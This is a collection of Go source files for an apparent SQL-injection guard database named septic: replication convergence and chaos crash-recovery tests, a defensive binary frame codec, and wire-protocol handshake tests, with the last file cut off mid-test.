			t.Fatalf("replica lacks domain %q", d.Name())
		}
		want := dumpJSON(t, d.Store())
		got := dumpJSON(t, rd.Store())
		if got != want {
			t.Errorf("domain %q diverged:\nprimary: %s\nreplica: %s", d.Name(), want, got)
		}
	}
}

// primaryMutator drives seeded randomized mutations against a primary:
// puts, deletes, approvals and config changes across every domain —
// the write mix the conformance suite replays.
type primaryMutator struct {
	t      *testing.T
	sep    *core.Septic
	rng    *rand.Rand
	models []qstruct.Model
	live   []string // "domain/id" of ids currently present
	nextID int
}

func newPrimaryMutator(t *testing.T, sep *core.Septic, seed int64) *primaryMutator {
	return &primaryMutator{
		t:   t,
		sep: sep,
		rng: rand.New(rand.NewSource(seed)),
		models: []qstruct.Model{
			modelFor(t, "SELECT a FROM t WHERE b = 1"),
			modelFor(t, "SELECT name, price FROM products WHERE cat = 'x' AND stock > 2"),
			modelFor(t, "INSERT INTO logs (msg, level) VALUES ('hello', 3)"),
			modelFor(t, "UPDATE users SET pass = 'x' WHERE name = 'ann'"),
		},
	}
}

func (m *primaryMutator) domains() []string {
	return append([]string{core.DefaultDomain}, testDomains...)
}

// step performs one random mutation; every acked put/delete/approve is
// reflected in live so the caller knows the expected end state count.
func (m *primaryMutator) step() {
	dom := m.domains()[m.rng.Intn(3)]
	d, ok := m.sep.Domain(dom)
	if !ok {
		m.t.Fatalf("domain %q missing", dom)
	}
	switch r := m.rng.Intn(10); {
	case r < 5: // put a fresh id
		id := fmt.Sprintf("q%06d", m.nextID)
		m.nextID++
		if d.Store().Put(id, m.models[m.rng.Intn(len(m.models))], m.rng.Intn(2) == 0) {
			m.live = append(m.live, dom+"/"+id)
		}
	case r < 6 && len(m.live) > 0: // second model variant for a live id
		key := m.live[m.rng.Intn(len(m.live))]
		kd, id := splitKey(key)
		dd, _ := m.sep.Domain(kd)
		dd.Store().Put(id, m.models[m.rng.Intn(len(m.models))], false)
	case r < 7 && len(m.live) > 0: // delete a live id
		i := m.rng.Intn(len(m.live))
		kd, id := splitKey(m.live[i])
		dd, _ := m.sep.Domain(kd)
		dd.Store().Delete(id)
		m.live = append(m.live[:i], m.live[i+1:]...)
	case r < 8 && len(m.live) > 0: // approve a live id
		key := m.live[m.rng.Intn(len(m.live))]
		kd, id := splitKey(key)
		dd, _ := m.sep.Domain(kd)
		dd.Store().Approve(id)
	default: // config change
		modes := []core.Mode{core.ModeTraining, core.ModeDetection, core.ModePrevention}
		d.SetConfig(core.Config{
			Mode:       modes[m.rng.Intn(3)],
			DetectSQLI: true, DetectStored: m.rng.Intn(2) == 0,
			IncrementalLearning: true,
		})
	}
}

func splitKey(key string) (dom, id string) {
	for i := 0; i < len(key); i++ {
		if key[i] == '/' {
			return key[:i], key[i+1:]
		}
	}
	return core.DefaultDomain, key
}

// TestReplConvergence is the deterministic conformance suite: seeded
// randomized train/approve/delete/config sequences across three
// domains, replicated live, with byte-identical store dumps required at
// quiescence. The checkpointed variants force the primary to trim its
// WAL mid-run, so the replica exercises the snapshot path too.
func TestReplConvergence(t *testing.T) {
	cases := []struct {
		name        string
		seed        int64
		ops         int
		connectLate bool // mutate first, connect after (catch-up path)
		checkpoint  bool // trim the primary mid-run (snapshot path)
	}{
		{name: "live_tail", seed: 1, ops: 120},
		{name: "live_tail_alt_seed", seed: 0xBEEF, ops: 200},
		{name: "catch_up", seed: 2, ops: 150, connectLate: true},
		{name: "catch_up_snapshot", seed: 3, ops: 150, connectLate: true, checkpoint: true},
		{name: "live_with_checkpoints", seed: 4, ops: 200, checkpoint: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			snapshotGoroutines(t)
			sep, persist := newPrimary(t, t.TempDir())
			addr, _ := servePrimary(t, persist, PrimaryOptions{})
			rsep, rs := newReplicaSeptic(t, "")

			mut := newPrimaryMutator(t, sep, tc.seed)
			if !tc.connectLate {
				startReplica(t, addr, rs)
			}
			for i := 0; i < tc.ops; i++ {
				mut.step()
				if tc.checkpoint && i == tc.ops/2 {
					if err := persist.Checkpoint(); err != nil {
						t.Fatalf("checkpoint: %v", err)
					}
				}
			}
			if tc.connectLate {
				startReplica(t, addr, rs)
			}

			waitApplied(t, rs, persist.ReplLastSeq())
			assertStoresIdentical(t, sep, rsep)
			st := rs.Stats()
			if st.LagSeq != 0 {
				t.Fatalf("lag %d at quiescence, want 0", st.LagSeq)
			}
			if tc.name == "catch_up_snapshot" && st.Snapshots == 0 {
				t.Fatal("trimmed catch-up never took the snapshot path")
			}
			if st.Skipped != 0 {
				t.Fatalf("%d records skipped on a domain-matched replica", st.Skipped)
			}
		})
	}
}

// TestReplConvergenceContinuous interleaves mutations WITH the live
// stream (no quiesce between ops) and layers a second replica on the
// same primary: both must converge to the identical dump.
func TestReplConvergenceContinuous(t *testing.T) {
	snapshotGoroutines(t)
	sep, persist := newPrimary(t, t.TempDir())
	addr, primary := servePrimary(t, persist, PrimaryOptions{})

	rsep1, rs1 := newReplicaSeptic(t, "")
	rsep2, rs2 := newReplicaSeptic(t, "")
	startReplica(t, addr, rs1)
	startReplica(t, addr, rs2)

	mut := newPrimaryMutator(t, sep, 77)
	for i := 0; i < 400; i++ {
		mut.step()
	}
	head := persist.ReplLastSeq()
	waitApplied(t, rs1, head)
	waitApplied(t, rs2, head)
	assertStoresIdentical(t, sep, rsep1)
	assertStoresIdentical(t, sep, rsep2)
	if got := primary.Stats().Sessions; got < 2 {
		t.Fatalf("primary served %d sessions, want >= 2", got)
	}
}

// TestReplResumeMidSegment is the duplicate-seq regression (a replica
// may see a record twice across a resume boundary): a persistent
// replica applies part of the stream, "restarts" (fresh Septic over the
// same directory), resumes mid-segment and must converge without
// re-requesting the snapshot and without double-applying anything.
func TestReplResumeMidSegment(t *testing.T) {
	snapshotGoroutines(t)
	sep, persist := newPrimary(t, t.TempDir())
	addr, _ := servePrimary(t, persist, PrimaryOptions{})

	rdir := t.TempDir()
	_, rs, rpersist := newReplicaSepticPersist(t, rdir)
	r := NewReplica(addr, rs, fastReplicaOptions())
	r.Start()

	mut := newPrimaryMutator(t, sep, 9)
	for i := 0; i < 80; i++ {
		mut.step()
	}
	waitApplied(t, rs, persist.ReplLastSeq())
	r.Close()
	applied := rs.AppliedSeq()
	if applied == 0 {
		t.Fatal("nothing applied before the restart")
	}
	// The first incarnation "dies": descriptors reaped, nothing flushed.
	rpersist.Kill()

	// More primary writes while the replica is down.
	for i := 0; i < 60; i++ {
		mut.step()
	}

	// Restart: a fresh Septic over the same local WAL must resume at the
	// persisted position — not at zero, not from a snapshot.
	rsep2, rs2 := newReplicaSeptic(t, rdir)
	if got := rs2.AppliedSeq(); got == 0 || got > applied {
		t.Fatalf("restart resumes at %d, want in (0, %d]", got, applied)
	}
	startReplica(t, addr, rs2)
	waitApplied(t, rs2, persist.ReplLastSeq())
	assertStoresIdentical(t, sep, rsep2)
	st := rs2.Stats()
	if st.Snapshots != 0 {
		t.Fatalf("mid-segment resume took %d snapshot(s); the primary still has the tail", st.Snapshots)
	}
	if st.LagSeq != 0 {
		t.Fatalf("lag %d after resume, want 0", st.LagSeq)
	}
}

// TestReplDuplicateRecordIdempotent hits the apply path directly: the
// same sequence delivered twice (and an older one delivered late) must
// be absorbed by the duplicate check, not double-applied.
func TestReplDuplicateRecordIdempotent(t *testing.T) {
	sep, persist := newPrimary(t, t.TempDir())
	d, _ := sep.Domain("shop")
	d.Store().Put("dup1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	d.Store().Put("dup2", modelFor(t, "SELECT c FROM u WHERE d = 2"), false)
	recs, err := persist.ReplReadFrom(0, 0)
	if err != nil || len(recs) != 2 {
		t.Fatalf("ReplReadFrom: %d records, err %v", len(recs), err)
	}

	rsep, rs := newReplicaSeptic(t, "")
	for _, rec := range recs {
		if err := rs.ApplyRecord(rec.Seq, rec.Data); err != nil {
			t.Fatalf("apply %d: %v", rec.Seq, err)
		}
	}
	before := dumpJSON(t, mustDomain(t, rsep, "shop").Store())

	// Redeliver both, newest first — the resume-overlap shape.
	for i := len(recs) - 1; i >= 0; i-- {
		if err := rs.ApplyRecord(recs[i].Seq, recs[i].Data); err != nil {
			t.Fatalf("reapply %d: %v", recs[i].Seq, err)
		}
	}
	if got := rs.Stats().DuplicateSeqs; got != 2 {
		t.Fatalf("DuplicateSeqs = %d, want 2", got)
	}
	if after := dumpJSON(t, mustDomain(t, rsep, "shop").Store()); after != before {
		t.Fatalf("duplicate delivery changed the store:\nbefore: %s\nafter:  %s", before, after)
	}
}

func mustDomain(t *testing.T, s *core.Septic, name string) *core.Domain {
	t.Helper()
	d, ok := s.Domain(name)
	if !ok {
		t.Fatalf("domain %q missing", name)
	}
	return d
}

// TestReplicaRejectsLocalWrites: a replica's stores refuse local
// mutations and the query hook refuses training writes with the typed
// ErrReadOnly — training must go to the primary.
func TestReplicaRejectsLocalWrites(t *testing.T) {
	rsep, rs := newReplicaSeptic(t, "")
	d := mustDomain(t, rsep, "shop")
	if d.Store().Put("x", modelFor(t, "SELECT a FROM t WHERE b = 1"), false) {
		t.Fatal("replica store accepted a local Put")
	}
	if d.Store().Approve("x") {
		t.Fatal("replica store accepted a local Approve")
	}
	if !d.Store().ReadOnly() {
		t.Fatal("replica store not read-only")
	}

	// A late-registered domain is read-only too.
	late, err := rsep.RegisterDomain("late", core.Config{Mode: core.ModeDetection})
	if err != nil {
		t.Fatal(err)
	}
	if !late.Store().ReadOnly() {
		t.Fatal("domain registered after attach is writable")
	}

	// The hook path: training mode on a replica returns the typed error.
	rsep.SetConfig(core.Config{Mode: core.ModeTraining})
	hctx := hookCtx(t, "SELECT a FROM t WHERE b = 1")
	if err := rsep.BeforeExecute(hctx); !isReadOnly(err) {
		t.Fatalf("training on a replica: %v, want ErrReadOnly", err)
	}
	_ = rs
}

// TestReplicaPromote: the failover hook lifts the read-only gates, the
// stream is refused from then on, and the hook is idempotent.
func TestReplicaPromote(t *testing.T) {
	sep, persist := newPrimary(t, t.TempDir())
	d, _ := sep.Domain("shop")
	d.Store().Put("p1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	recs, _ := persist.ReplReadFrom(0, 0)

	rsep, rs := newReplicaSeptic(t, "")
	if err := rs.ApplyRecord(recs[0].Seq, recs[0].Data); err != nil {
		t.Fatal(err)
	}

	rs.Promote()
	rs.Promote() // idempotent
	if !rs.Promoted() || rsep.IsReplica() {
		t.Fatal("promotion did not clear replica mode")
	}
	rd := mustDomain(t, rsep, "shop")
	if rd.Store().ReadOnly() {
		t.Fatal("store still read-only after promotion")
	}
	if !rd.Store().Put("local", modelFor(t, "SELECT c FROM u WHERE d = 2"), false) {
		t.Fatal("promoted node refused a local write")
	}
	// Straggling stream records are refused: the former primary can no
	// longer overwrite the promoted node.
	if err := rs.ApplyRecord(recs[0].Seq+10, recs[0].Data); err == nil {
		t.Fatal("promoted replica accepted a stream record")
	}
	if rs.ConnState() != core.ReplPromoted {
		t.Fatalf("state %v after promote", rs.ConnState())
	}
}

func hookCtx(t *testing.T, q string) *engine.HookContext {
	t.Helper()
	stmt, err := sqlparser.Parse(q)
	if err != nil {
		t.Fatal(err)
	}
	return &engine.HookContext{Raw: q, Decoded: q, Stmt: stmt, Comments: stmt.StatementComments()}
}

func isReadOnly(err error) bool {
	return errors.Is(err, core.ErrReadOnly)
}
