package repl

import (
	"errors"
	"math/rand"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/faultinject"
)

// The replication chaos suite (run via `make chaos`, always part of
// `go test`) kills the REPLICA at injected kill points in its apply
// path — mid-record, mid-snapshot — while the primary keeps training,
// then "reboots" the replica from its local persistence and lets it
// resume. The invariants, in PR 8's style but across two nodes:
//
//  1. Acked on the primary ⇒ eventually applied on the replica. Every
//     mutation the primary acknowledged must be present on the replica
//     once it converges, no matter how many times the replica died
//     mid-apply.
//  2. Zero divergence. At quiescence the replica's per-domain store
//     dumps are byte-identical to the primary's, and repl.lag_seq is 0.
//
// A "kill" is an in-process panic(faultinject.Crash) recovered at the
// replica transport's session boundary — the applier's half-done state
// and its abandoned WAL handles are left exactly as the crash made
// them, then a fresh Septic boots over the same directory.

// rebootReplica boots a replica incarnation over dir, resuming from its
// local WAL, and connects it to addr. Returns the pieces the harness
// kills and inspects.
func rebootReplica(t *testing.T, dir, addr string) (*core.Septic, *core.ReplicaState, *core.Persistence, *Replica) {
	t.Helper()
	sep, rs, persist := newReplicaSepticPersist(t, dir)
	r := NewReplica(addr, rs, fastReplicaOptions())
	r.Start()
	return sep, rs, persist, r
}

func TestChaosReplKillResumeNeverDiverges(t *testing.T) {
	const cycles = 40
	rng := rand.New(rand.NewSource(0x9E97))
	pdir, rdir := t.TempDir(), t.TempDir()

	sep, persist := newPrimary(t, pdir)
	addr, _ := servePrimary(t, persist, PrimaryOptions{})
	mut := newPrimaryMutator(t, sep, 0x9E97)

	crashes := 0
	var rsep *core.Septic
	var rs *core.ReplicaState
	var rpersist *core.Persistence
	var r *Replica
	rsep, rs, rpersist, r = rebootReplica(t, rdir, addr)

	for cycle := 0; cycle < cycles; cycle++ {
		// Arm a kill a few applies ahead. The snapshot site is excluded
		// here — the primary never checkpoints in this test, so the stream
		// never needs a snapshot (asserted below); the snapshot-kill case
		// has its own test.
		faultinject.Arm(faultinject.KillPoint(faultinject.SiteReplApply, int64(1+rng.Intn(8))))

		// The primary trains on, live, while the armed replica applies.
		for op := 0; op < 12; op++ {
			mut.step()
		}

		// The kill fires inside the applier; the transport's session
		// boundary converts it to a simulated process death.
		select {
		case <-r.Done():
		case <-time.After(10 * time.Second):
			t.Fatalf("cycle %d: kill point never fired", cycle)
		}
		faultinject.Disarm()
		var crash faultinject.Crash
		if err := r.Err(); !errors.As(err, &crash) || crash.Site != faultinject.SiteReplApply {
			t.Fatalf("cycle %d: replica ended without the injected crash: %v", cycle, err)
		}
		crashes++
		r.Close()
		// Reap the dead incarnation's descriptors without flushing a byte,
		// then reboot over its debris.
		rpersist.Kill()
		rsep, rs, rpersist, r = rebootReplica(t, rdir, addr)
	}

	// Quiesce and converge: the surviving incarnation catches all the way
	// up to the primary's head.
	waitApplied(t, rs, persist.ReplLastSeq())
	assertStoresIdentical(t, sep, rsep)
	st := rs.Stats()
	if st.LagSeq != 0 {
		t.Fatalf("lag %d after convergence, want 0", st.LagSeq)
	}
	if st.Snapshots != 0 {
		t.Fatalf("replica took %d snapshot(s); with the primary never checkpointing, "+
			"every resume must stream from the WAL", st.Snapshots)
	}
	if crashes != cycles {
		t.Fatalf("%d crashes in %d cycles", crashes, cycles)
	}
	r.Close()
	t.Logf("chaos: %d kill/resume cycles, %d records on the primary, replica converged with 0 divergence",
		crashes, persist.ReplLastSeq())
}

// TestChaosReplSnapshotKill kills the replica INSIDE a snapshot install
// — the other apply-path kill site — and requires the reboot to
// re-request and complete the snapshot, then converge.
func TestChaosReplSnapshotKill(t *testing.T) {
	pdir, rdir := t.TempDir(), t.TempDir()
	sep, persist := newPrimary(t, pdir)
	addr, _ := servePrimary(t, persist, PrimaryOptions{})

	// Build history, then checkpoint: the WAL is trimmed, so a fresh
	// replica MUST take the snapshot path.
	mut := newPrimaryMutator(t, sep, 0x51AB)
	for i := 0; i < 100; i++ {
		mut.step()
	}
	if err := persist.Checkpoint(); err != nil {
		t.Fatal(err)
	}

	faultinject.Arm(faultinject.KillPoint(faultinject.SiteReplSnapshot, 1))
	_, _, rpersist, r := rebootReplica(t, rdir, addr)
	select {
	case <-r.Done():
	case <-time.After(10 * time.Second):
		faultinject.Disarm()
		t.Fatal("snapshot kill never fired")
	}
	faultinject.Disarm()
	r.Close()
	rpersist.Kill()

	// Reboot: the half-installed snapshot was never acknowledged, so the
	// fresh incarnation starts from zero, re-requests it, and converges.
	rsep2, rs2, _, r2 := rebootReplica(t, rdir, addr)
	defer r2.Close()
	waitApplied(t, rs2, persist.ReplLastSeq())
	assertStoresIdentical(t, sep, rsep2)
	if rs2.Stats().Snapshots == 0 {
		t.Fatal("rebooted replica never installed the snapshot")
	}
}
