// codec.go — the version-2 binary frame codec.
//
// A v2 frame is length-prefixed like a v1 frame, so the 16 MiB bound
// and the split idle/read deadline handling carry over unchanged:
//
//	offset  size  field
//	0       4     payload length N (big-endian uint32, 9 ≤ N ≤ maxFrame)
//	4       8     sequence number (big-endian uint64)
//	12      1     frame type (frameQuery | frameResult)
//	13      N-9   type-specific body
//
// The sequence number is assigned by the client, strictly increasing
// per connection, and echoed verbatim in the response frame: responses
// may arrive in any order (the server completes queries out of order)
// and the client matches them back by sequence number. There is no
// binary hello — protocol negotiation happens once, in JSON, before the
// first binary frame — and no per-request cancellation frame: the unit
// of cancellation is the connection (closing it abandons every request
// in flight), exactly like the query-kill granularity of the paper's
// MySQL deployment.
//
// Body encodings (all integers big-endian, lengths/counts unsigned
// varints):
//
//	query request:  query string · arg count · args
//	result:         flags byte (blocked|busy|shed|retry-after) ·
//	                [retry-after ms uvarint, iff the retry-after flag] ·
//	                error string ·
//	                affected i64 · last-insert-id i64 ·
//	                column count · column strings ·
//	                row count · per row: cell count · cells
//	string:         uvarint byte length · bytes
//	value (cell):   kind byte, then INT/FLOAT: 8 bytes, STRING: string,
//	                BOOL: 1 byte, NULL: nothing
//
// Every decoder is defensive: lengths and counts are checked against
// the bytes actually present before any allocation, so a torn or
// hostile frame can neither panic the decoder nor make it allocate
// beyond the (already bounded) frame size. The fuzz target
// FuzzBinaryDecode holds the decoders to that contract.
package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math"
	"sync"

	"github.com/septic-db/septic/internal/engine"
)

// v2FrameOverhead is the sequence number plus the type byte — the fixed
// part of every v2 payload.
const v2FrameOverhead = 9

// Frame types.
const (
	frameQuery  byte = 0x01 // client → server
	frameResult byte = 0x02 // server → client
)

// errFrameTooShort rejects payloads smaller than the fixed overhead.
var errFrameTooShort = errors.New("binary frame shorter than header")

// encBuf is a pooled encode/decode scratch buffer. Frames are built in
// one of these and written with a single Write, and read payloads land
// in one before decoding.
type encBuf struct {
	b []byte
}

var encBufPool = sync.Pool{New: func() any {
	return &encBuf{b: make([]byte, 0, 4096)}
}}

func getEncBuf() *encBuf { return encBufPool.Get().(*encBuf) }

func putEncBuf(e *encBuf) {
	if cap(e.b) <= poolableCap {
		encBufPool.Put(e)
	}
}

// --- encoding ----------------------------------------------------------

func appendString(b []byte, s string) []byte {
	b = binary.AppendUvarint(b, uint64(len(s)))
	return append(b, s...)
}

func appendValue(b []byte, v WireValue) []byte {
	b = append(b, byte(v.Kind))
	switch engine.Kind(v.Kind) {
	case engine.KindInt:
		b = binary.BigEndian.AppendUint64(b, uint64(v.I))
	case engine.KindFloat:
		b = binary.BigEndian.AppendUint64(b, math.Float64bits(v.F))
	case engine.KindString:
		b = appendString(b, v.S)
	case engine.KindBool:
		if v.B {
			b = append(b, 1)
		} else {
			b = append(b, 0)
		}
	}
	return b
}

// beginFrame reserves the length header and writes the fixed payload
// prefix; endFrame patches the header once the body is complete.
func beginFrame(b []byte, seq uint64, typ byte) []byte {
	b = append(b, 0, 0, 0, 0)
	b = binary.BigEndian.AppendUint64(b, seq)
	return append(b, typ)
}

func endFrame(b []byte, start int) ([]byte, error) {
	n := len(b) - start - 4
	if n > maxFrame {
		return b, fmt.Errorf("frame of %d bytes exceeds limit", n)
	}
	binary.BigEndian.PutUint32(b[start:], uint32(n))
	return b, nil
}

// appendRequestFrame encodes one query request as a complete v2 frame.
func appendRequestFrame(b []byte, seq uint64, req *Request) ([]byte, error) {
	start := len(b)
	b = beginFrame(b, seq, frameQuery)
	b = appendString(b, req.Query)
	b = binary.AppendUvarint(b, uint64(len(req.Args)))
	for _, a := range req.Args {
		b = appendValue(b, a)
	}
	return endFrame(b, start)
}

// Response flag bits. Old decoders never see the new bits set by old
// encoders and ignore unknown bits, so adding flags (with their
// flag-gated payload) keeps both directions of version skew working.
const (
	respFlagBlocked    = 1 << 0
	respFlagBusy       = 1 << 1
	respFlagShed       = 1 << 2 // overload control rejected this request
	respFlagRetryAfter = 1 << 3 // a retry-after uvarint follows the flags
)

// appendResponseFrame encodes one query result as a complete v2 frame.
func appendResponseFrame(b []byte, seq uint64, resp *Response) ([]byte, error) {
	start := len(b)
	b = beginFrame(b, seq, frameResult)
	var flags byte
	if resp.Blocked {
		flags |= respFlagBlocked
	}
	if resp.Busy {
		flags |= respFlagBusy
	}
	if resp.Shed {
		flags |= respFlagShed
	}
	if resp.RetryAfterMS > 0 {
		flags |= respFlagRetryAfter
	}
	b = append(b, flags)
	if resp.RetryAfterMS > 0 {
		b = binary.AppendUvarint(b, uint64(resp.RetryAfterMS))
	}
	b = appendString(b, resp.Error)
	b = binary.BigEndian.AppendUint64(b, uint64(resp.Affected))
	b = binary.BigEndian.AppendUint64(b, uint64(resp.LastInsertID))
	b = binary.AppendUvarint(b, uint64(len(resp.Columns)))
	for _, c := range resp.Columns {
		b = appendString(b, c)
	}
	b = binary.AppendUvarint(b, uint64(len(resp.Rows)))
	for _, row := range resp.Rows {
		b = binary.AppendUvarint(b, uint64(len(row)))
		for _, v := range row {
			b = appendValue(b, v)
		}
	}
	return endFrame(b, start)
}

// --- decoding ----------------------------------------------------------

// dec is a bounds-checked cursor over one frame payload. Every take
// method fails (sticky error) instead of panicking when the payload is
// truncated or a count lies about the bytes that follow.
type dec struct {
	b   []byte
	err error
}

func (d *dec) fail(what string) {
	if d.err == nil {
		d.err = fmt.Errorf("decode binary frame: truncated or invalid %s", what)
	}
}

func (d *dec) takeByte(what string) byte {
	if d.err != nil {
		return 0
	}
	if len(d.b) < 1 {
		d.fail(what)
		return 0
	}
	v := d.b[0]
	d.b = d.b[1:]
	return v
}

func (d *dec) takeU64(what string) uint64 {
	if d.err != nil {
		return 0
	}
	if len(d.b) < 8 {
		d.fail(what)
		return 0
	}
	v := binary.BigEndian.Uint64(d.b)
	d.b = d.b[8:]
	return v
}

func (d *dec) takeUvarint(what string) uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.b)
	if n <= 0 {
		d.fail(what)
		return 0
	}
	d.b = d.b[n:]
	return v
}

// takeCount reads a collection count and rejects any value that could
// not possibly fit in the remaining bytes (each element needs at least
// minElem bytes), so a lying count cannot drive a huge allocation.
func (d *dec) takeCount(what string, minElem int) int {
	v := d.takeUvarint(what)
	if d.err != nil {
		return 0
	}
	if v > uint64(len(d.b)/minElem) {
		d.fail(what)
		return 0
	}
	return int(v)
}

func (d *dec) takeString(what string) string {
	n := d.takeUvarint(what)
	if d.err != nil {
		return ""
	}
	if n > uint64(len(d.b)) {
		d.fail(what)
		return ""
	}
	s := string(d.b[:n])
	d.b = d.b[n:]
	return s
}

func (d *dec) takeValue() WireValue {
	kind := d.takeByte("value kind")
	if d.err != nil {
		return WireValue{}
	}
	v := WireValue{Kind: int(kind)}
	switch engine.Kind(kind) {
	case engine.KindInvalid, engine.KindNull:
		// No payload. KindInvalid (a zero engine.Value) round-trips like
		// null — the JSON path carries it too, so the binary path must.
	case engine.KindInt:
		v.I = int64(d.takeU64("int value"))
	case engine.KindFloat:
		v.F = math.Float64frombits(d.takeU64("float value"))
	case engine.KindString:
		v.S = d.takeString("string value")
	case engine.KindBool:
		v.B = d.takeByte("bool value") != 0
	default:
		d.fail("value kind")
	}
	return v
}

// decodeRequestBody decodes a frameQuery body into req (which should be
// reset; Args capacity is reused).
func decodeRequestBody(body []byte, req *Request) error {
	d := dec{b: body}
	req.Query = d.takeString("query")
	argc := d.takeCount("arg count", 1)
	for i := 0; i < argc && d.err == nil; i++ {
		req.Args = append(req.Args, d.takeValue())
	}
	if d.err == nil && len(d.b) != 0 {
		d.fail("trailing bytes")
	}
	return d.err
}

// decodeResponseBody decodes a frameResult body into resp (which should
// be reset; outer slice capacities are reused).
func decodeResponseBody(body []byte, resp *Response) error {
	d := dec{b: body}
	flags := d.takeByte("flags")
	resp.Blocked = flags&respFlagBlocked != 0
	resp.Busy = flags&respFlagBusy != 0
	resp.Shed = flags&respFlagShed != 0
	if flags&respFlagRetryAfter != 0 {
		resp.RetryAfterMS = int64(d.takeUvarint("retry-after ms"))
	}
	resp.Error = d.takeString("error")
	resp.Affected = int64(d.takeU64("affected"))
	resp.LastInsertID = int64(d.takeU64("last insert id"))
	ncols := d.takeCount("column count", 1)
	for i := 0; i < ncols && d.err == nil; i++ {
		resp.Columns = append(resp.Columns, d.takeString("column name"))
	}
	nrows := d.takeCount("row count", 1)
	for i := 0; i < nrows && d.err == nil; i++ {
		ncells := d.takeCount("cell count", 1)
		if d.err != nil {
			break
		}
		row := make([]WireValue, 0, ncells)
		for j := 0; j < ncells && d.err == nil; j++ {
			row = append(row, d.takeValue())
		}
		resp.Rows = append(resp.Rows, row)
	}
	if d.err == nil && len(d.b) != 0 {
		d.fail("trailing bytes")
	}
	return d.err
}

// readBinaryFrame reads one v2 frame into buf (reused across calls) and
// returns the sequence number, frame type and body. The body aliases
// buf and is only valid until the next call.
func readBinaryFrame(r io.Reader, buf *encBuf) (seq uint64, typ byte, body []byte, err error) {
	n, err := readFrameHeader(r)
	if err != nil {
		return 0, 0, nil, err
	}
	return readBinaryFramePayload(r, n, buf)
}

// readBinaryFramePayload reads the payload of a v2 frame whose header
// (length n) was already consumed — split out so the server can switch
// from its idle deadline to its read deadline between the two.
func readBinaryFramePayload(r io.Reader, n uint32, buf *encBuf) (seq uint64, typ byte, body []byte, err error) {
	if n < v2FrameOverhead {
		return 0, 0, nil, errFrameTooShort
	}
	if uint32(cap(buf.b)) < n {
		buf.b = make([]byte, 0, n)
	}
	payload := buf.b[:n]
	if _, err := io.ReadFull(r, payload); err != nil {
		return 0, 0, nil, fmt.Errorf("read frame payload: %w", err)
	}
	seq = binary.BigEndian.Uint64(payload)
	return seq, payload[8], payload[v2FrameOverhead:], nil
}
