package wire

import (
	"net"
	"strings"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/engine"
)

// replHello performs a replication HELLO against addr and returns the
// ack plus the open connection (for the accepted case, the conn now
// speaks the replication frame protocol).
func replHello(t *testing.T, addr string, version int) (*Response, net.Conn) {
	t.Helper()
	conn, err := net.DialTimeout("tcp", addr, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	req := Request{Hello: &Hello{Version: version, Repl: true}}
	if err := WriteJSONFrame(conn, &req); err != nil {
		t.Fatal(err)
	}
	var resp Response
	if err := ReadJSONFrame(conn, &resp); err != nil {
		t.Fatal(err)
	}
	return &resp, conn
}

// TestReplHelloHandoff covers the server side of the replication
// handshake: an accepted HELLO hands the raw connection to the
// configured handler; every refusal answers with an error ack naming
// what the server does speak, never a hang or a silent close.
func TestReplHelloHandoff(t *testing.T) {
	t.Run("accepted", func(t *testing.T) {
		handed := make(chan struct{})
		srv := NewServer(engine.New(), WithReplHandler(func(conn net.Conn) {
			// The handler owns the conn post-ack; prove bytes flow by
			// echoing one marker byte back.
			buf := make([]byte, 1)
			if _, err := conn.Read(buf); err == nil {
				conn.Write(buf)
			}
			close(handed)
		}))
		addr, err := srv.Listen("127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer srv.Close()

		resp, conn := replHello(t, addr, HelloVersion)
		if resp.Error != "" || resp.Hello == nil || !resp.Hello.Repl {
			t.Fatalf("accepted handshake ack %+v", resp)
		}
		if _, err := conn.Write([]byte{0x5A}); err != nil {
			t.Fatal(err)
		}
		buf := make([]byte, 1)
		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		if _, err := conn.Read(buf); err != nil || buf[0] != 0x5A {
			t.Fatalf("echo through handler: %v %x", err, buf)
		}
		select {
		case <-handed:
		case <-time.After(2 * time.Second):
			t.Fatal("connection never handed to the repl handler")
		}
	})

	refusals := []struct {
		name    string
		opts    []ServerOption
		version int
		want    string
	}{
		{"no_handler", nil, HelloVersion, "not enabled"},
		{"v1_server", []ServerOption{WithHelloVersionLimit(1)}, HelloVersion, "unsupported"},
		{"v1_client", []ServerOption{WithReplHandler(func(net.Conn) {})}, 1, "requires protocol version"},
	}
	for _, tc := range refusals {
		t.Run(tc.name, func(t *testing.T) {
			srv := NewServer(engine.New(), tc.opts...)
			addr, err := srv.Listen("127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer srv.Close()
			resp, _ := replHello(t, addr, tc.version)
			if resp.Error == "" || !strings.Contains(resp.Error, tc.want) {
				t.Fatalf("refusal %+v, want error containing %q", resp, tc.want)
			}
			if resp.Hello == nil || resp.Hello.Repl {
				t.Fatalf("refusal ack %+v must advertise the server's version without the repl flag", resp.Hello)
			}
		})
	}
}
