package wire

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/raceflag"
)

// gatedHook wraps the guard and parks any query whose text equals
// match until gate is closed — the test lever for wedging chosen
// queries inside the engine while others run.
type gatedHook struct {
	inner engine.QueryHook
	match string
	gate  chan struct{}
}

func (g *gatedHook) BeforeExecute(ctx *engine.HookContext) error {
	if ctx.Raw == g.match {
		<-g.gate
	}
	if g.inner != nil {
		return g.inner.BeforeExecute(ctx)
	}
	return nil
}

// dialOpts dials with arbitrary client options and registers cleanup.
func dialOpts(t *testing.T, addr string, opts ...ClientOption) *Client {
	t.Helper()
	c, err := Dial(addr, opts...)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	t.Cleanup(func() { _ = c.Close() })
	return c
}

func TestPipelinedRoundTrip(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c := dialOpts(t, addr, WithPipeline(8))
	if got := c.ProtocolVersion(); got != 2 {
